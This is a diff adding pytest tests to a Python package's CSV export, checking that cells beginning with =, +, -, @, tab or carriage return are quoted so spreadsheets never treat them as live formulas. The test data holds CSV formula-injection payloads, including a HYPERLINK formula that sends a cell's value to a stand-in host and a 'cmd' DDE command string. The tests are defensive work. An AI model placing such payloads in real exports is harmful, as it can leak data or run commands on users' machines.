@@ -2,14 +2,19 @@
 
 from __future__ import annotations
 
+import codecs
+import csv
+import io
 import re
 from collections.abc import Iterator
-from datetime import datetime
+from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 
 from tenantlead.cli._session import sandbox_clients
-from tenantlead.orchestration import Fleet, LimitPolicy, align_limits, connect, troubleshoot
+from tenantlead.orchestration import Fleet, LimitPolicy, align_limits, connect, load_credentials, troubleshoot
+from tenantlead.orchestration._render import csv_cell
 from tenantlead.orchestration.fleet import ROW_RECORD_FIELDS
 from tenantlead.sandbox import Sandbox
 
@@ -208,3 +213,73 @@ def test_text_views_match_the_html_ones(demo: tuple[Sandbox, Fleet]) -> None:
     assert text.startswith("Fleet: 12 tenants")
     assert "Tenants: 3 of 12 shown, problems first (fleet.show(tenants=None) for all)" in text
     assert f"Mailboxes: 5 of {len(fleet):,} shown" in text
+
+
+# ----------------------------------------------------------------------------- CSV
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-5", "'-5"),  # text, even when it reads like a number
+        ("Acme = Corp", "Acme = Corp"),
+        (-5, "-5"),  # numbers are numbers
+        (2.5, "2.5"),
+        (True, "true"),
+        (None, ""),
+        (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05Z"),
+        (["-a", "b"], "'-a, b"),
+    ],
+)
+def test_csv_cells_are_never_live_formulas_and_numbers_stay_numbers(value: object, cell: str) -> None:
+    assert csv_cell(value) == cell
+
+
+def test_to_csv_has_every_record_key_and_reads_back(demo: tuple[Sandbox, Fleet], tmp_path: Path) -> None:
+    _sb, fleet = demo
+    path = tmp_path / "fleet.csv"
+
+    text = fleet.to_csv(path)
+
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[0] == list(ROW_RECORD_FIELDS)
+    assert len(rows) == len(fleet.rows) + 1
+    assert "\r\n" in text
+    assert path.read_bytes().startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with it
+    assert path.read_text(encoding="utf-8-sig") == text.replace("\r\n", "\n")
+    first = dict(zip(rows[0], rows[1], strict=True))
+    record = fleet.to_records()[0]
+    assert first["address"] == record["address"]
+    assert first["account_id"] == ("" if record["account_id"] is None else str(record["account_id"]))
+
+
+def test_server_formulas_reach_every_csv_as_text() -> None:
+    sb = Sandbox.demo(seed=9, tenants=2)
+    tenant = next(iter(sb.tc_account.tenants.values()))
+    tenant.tenant_name = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
+    tc, sl = sandbox_clients(sb)
+    with tc, sl:
+        fleet = Fleet.load(tc, sl)
+    for table in (fleet, troubleshoot(fleet), connect(fleet, "manual"), align_limits(fleet, LimitPolicy())):
+        cells = [c for row in csv.reader(io.StringIO(table.to_csv())) for c in row]
+        assert "'" + tenant.tenant_name in cells, type(table).__name__
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+        # The records keep the value as the server sent it: they are data, not a spreadsheet.
+        assert tenant.tenant_name in [r.get("tenant_name") for r in table.to_records()]
+
+
+def test_a_credentials_export_keeps_passwords_that_look_like_formulas() -> None:
+    # The one CSV never neutralised: a password must reach Smartlead exactly as it is.
+    sb = Sandbox.demo(seed=9, tenants=1)
+    mailbox = next(iter(sb.tc_account.mailboxes.values()))
+    mailbox.password = "=Pa55+word@1"
+
+    creds = load_credentials(sb.credentials_csv())
+
+    assert creds.get(mailbox.primary_smtp) == "=Pa55+word@1"
